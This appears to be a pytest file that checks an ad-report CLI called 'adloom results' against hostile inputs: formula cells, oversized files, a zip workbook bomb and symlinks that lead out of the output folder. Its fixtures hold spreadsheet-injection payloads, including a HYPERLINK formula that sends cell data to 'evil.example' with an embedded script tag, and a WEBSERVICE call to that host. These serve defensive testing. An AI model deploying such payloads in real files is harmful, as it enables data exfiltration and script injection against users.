"""Hostile reports for ``adloom results``: formula cells, a file past the size limit,
a workbook bomb, and links planted in the out folder. Each is refused (exit 2, the
file or cell named; 74 for a link leading out) or made harmless, and nothing outside
the out folder is written."""

from __future__ import annotations

import os
import shutil
import zipfile
from pathlib import Path

import openpyxl
import pytest
from victims import outside, plant_victim, run_cli

from adloom.brief.inputs import MAX_FILE_BYTES
from adloom.errors import ExitCode
from briefs import write_brief
from reports import generic_csv, meta_csv

CAMPAIGN = {"name": "Spring Launch", "brand": "Lumen", "provider": "draft", "variants": 2,
            "languages": "en", "placements": "google_rsa"}  # fmt: skip
BRIEF = {"id": "cold-brew", "product": "Cold Brew Kit", "message": "Smooth coffee",
         "landing_url": "https://example.com/cold-brew"}  # fmt: skip
P = "spring-launch_cold-brew_general_en_google_rsa"
INJECTION = '=HYPERLINK("http://evil.example/?"&A1,"<script>alert(1)</script>")'


@pytest.fixture(scope="module")
def made(tmp_path_factory: pytest.TempPathFactory) -> Path:
    root = tmp_path_factory.mktemp("run")
    brief = write_brief(root / "brief.xlsx", CAMPAIGN, [BRIEF])
    code, _, err = run_cli("run", brief, "--out", root / "out")
    assert code == ExitCode.OK, err
    return root / "out"


@pytest.fixture
def out(made: Path, tmp_path: Path) -> Path:
    shutil.copytree(made, tmp_path / "out")
    return tmp_path / "out"


def _quiet(err: str) -> None:
    assert "Traceback" not in err
    assert "internal error" not in err


def test_a_formula_in_a_metric_is_refused_at_its_cell(out: Path, tmp_path: Path) -> None:
    report = generic_csv(
        tmp_path / "r.csv",
        ["ad_name", "impressions", "clicks"],
        [[f"{P}_v1", "=1+1", "10"], [f"{P}_v2", "1000", "@SUM(A1:A9)"]],
    )
    before = sorted(p.name for p in out.iterdir())
    code, _, err = run_cli("results", out, report)
    _quiet(err)
    assert code == ExitCode.BAD_INPUT
    assert 'r.csv!B2: "=1+1" is not a number' in err
    assert 'r.csv!C3: "@SUM(A1:A9)" is not a number' in err
    assert sorted(p.name for p in out.iterdir()) == before  # nothing written


def test_a_formula_as_an_ad_name_stays_text(out: Path, tmp_path: Path) -> None:
    report = meta_csv(tmp_path / "meta.csv", [(INJECTION, 1000, 10, 0, 1.0),
                                              (f"{P}_v1", 1000, 10, 0, 1.0)])  # fmt: skip
    code, _, err = run_cli("results", out, report)
    _quiet(err)
    assert code == ExitCode.OK, err
    ws = openpyxl.load_workbook(out / "variants.xlsx")["Results"]
    written = [c for row in ws.iter_rows() for c in row if c.value == INJECTION]
    assert written  # reported as not matched, as text
    assert all(c.data_type == "s" and c.quotePrefix for c in written)
    html = (out / "results.html").read_text(encoding="utf-8")
    assert "<script>" not in html
    assert "&lt;script&gt;" in html


def test_a_workbook_with_formulas_reads_their_saved_values(out: Path, tmp_path: Path) -> None:
    """openpyxl saves no cached values: a formula cell reads as empty, never as its
    text; the report's text cells are never evaluated."""
    workbook = openpyxl.Workbook()
    ws = workbook.active
    assert ws is not None
    ws.append(["Ad name", "Impressions", "Clicks"])
    ws.append([f"{P}_v1", 1000, "=B2*0.1"])
    ws.append(['=WEBSERVICE("http://evil.example")', 1000, 5])
    workbook.save(tmp_path / "r.xlsx")
    code, _, err = run_cli("results", out, tmp_path / "r.xlsx")
    _quiet(err)
    assert code == ExitCode.OK, err
    assert '"clicks": 0' in (out / "results.json").read_text(encoding="utf-8")


def test_a_report_over_the_size_limit_is_refused_unread(out: Path, tmp_path: Path) -> None:
    huge = tmp_path / "huge.csv"
    with huge.open("wb") as file:  # sparse: no disk, and never read
        file.truncate(MAX_FILE_BYTES + 1)
    code, _, err = run_cli("results", out, huge)
    _quiet(err)
    assert code == ExitCode.BAD_INPUT
    assert "huge.csv" in err
    assert "limit" in err


def test_a_workbook_bomb_is_refused(out: Path, tmp_path: Path) -> None:
    bomb = tmp_path / "bomb.xlsx"
    workbook = openpyxl.Workbook()
    workbook.save(bomb)
    with zipfile.ZipFile(bomb, "a", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("xl/filler.bin", b"\0" * (8 * 2**20))  # 8 MB of zeros: ~8 KB zipped
    code, _, err = run_cli("results", out, bomb)
    _quiet(err)
    assert code == ExitCode.BAD_INPUT
    assert "times larger than stored" in err


def test_a_link_in_the_out_folder_leading_out_is_not_followed(out: Path, tmp_path: Path) -> None:
    victim = plant_victim(tmp_path)
    (out / "results.html").symlink_to(victim / "notes.txt")
    report = meta_csv(tmp_path / "meta.csv", [(f"{P}_v1", 1000, 10, 0, 1.0)])
    before = outside(tmp_path, out)
    code, _, err = run_cli("results", out, report)
    _quiet(err)
    assert code == ExitCode.MACHINE
    assert "refusing to write outside the out folder" in err
    assert outside(tmp_path, out) == before
    assert (victim / "notes.txt").read_text() == "mine, not adloom's\n"


def test_a_workbook_linked_from_outside_is_read_but_never_rewritten(
    out: Path, tmp_path: Path
) -> None:
    """variants.xlsx a link to a workbook elsewhere (the user's own copy): the Results
    sheet is not written through it, and nothing else is written either."""
    theirs = tmp_path / "victim-workbook.xlsx"
    shutil.move(out / "variants.xlsx", theirs)
    (out / "variants.xlsx").symlink_to(theirs)
    report = meta_csv(tmp_path / "meta.csv", [(f"{P}_v1", 1000, 10, 0, 1.0)])
    before, inside = outside(tmp_path, out), sorted(p.name for p in out.iterdir())
    code, _, err = run_cli("results", out, report)
    _quiet(err)
    assert code == ExitCode.MACHINE
    assert "variants.xlsx: refusing to write outside the out folder" in err
    assert outside(tmp_path, out) == before
    assert sorted(p.name for p in out.iterdir()) == inside  # no results.json, no page


def test_an_index_page_linked_outside_is_not_followed(out: Path, tmp_path: Path) -> None:
    victim = plant_victim(tmp_path)
    page = victim / "page.html"
    page.write_text("<!--adloom:results--><!--/adloom:results-->")
    (out / "index.html").unlink()
    (out / "index.html").symlink_to(page)
    report = meta_csv(tmp_path / "meta.csv", [(f"{P}_v1", 1000, 10, 0, 1.0)])
    code, _, err = run_cli("results", out, report)
    _quiet(err)
    assert code == ExitCode.MACHINE
    assert page.read_text() == "<!--adloom:results--><!--/adloom:results-->"


def test_an_out_folder_that_is_not_a_run_is_refused(tmp_path: Path) -> None:
    report = meta_csv(tmp_path / "meta.csv", [("x", 1000, 10, 0, 1.0)])
    (tmp_path / "mine").mkdir()
    (tmp_path / "mine" / "notes.txt").write_text("mine")
    code, _, err = run_cli("results", tmp_path / "mine", report)
    _quiet(err)
    assert code == ExitCode.BAD_INPUT
    assert "has no variants.xlsx" in err
    assert sorted(os.listdir(tmp_path / "mine")) == ["notes.txt"]
